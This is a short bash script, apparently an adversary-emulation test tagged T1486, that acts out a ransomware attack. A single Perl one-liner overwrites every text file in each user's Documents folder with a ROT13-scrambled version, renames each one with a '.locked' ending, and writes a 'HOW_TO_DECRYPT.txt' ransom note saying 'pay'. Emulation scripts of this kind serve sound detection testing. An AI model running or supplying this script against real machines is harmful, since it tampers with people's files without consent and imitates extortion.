#!/bin/bash
# T1486: A script writes over documents and gives them another ending.
perl -e 'for(glob "/home/*/Documents/*.txt"){open F,"+<",$_;local $/;$d=<F>;$d=~tr/a-z/n-za-m/;seek F,0,0;print F $d;close F;rename $_,"$_.locked"}'; echo 'pay' >/home/alice/HOW_TO_DECRYPT.txt
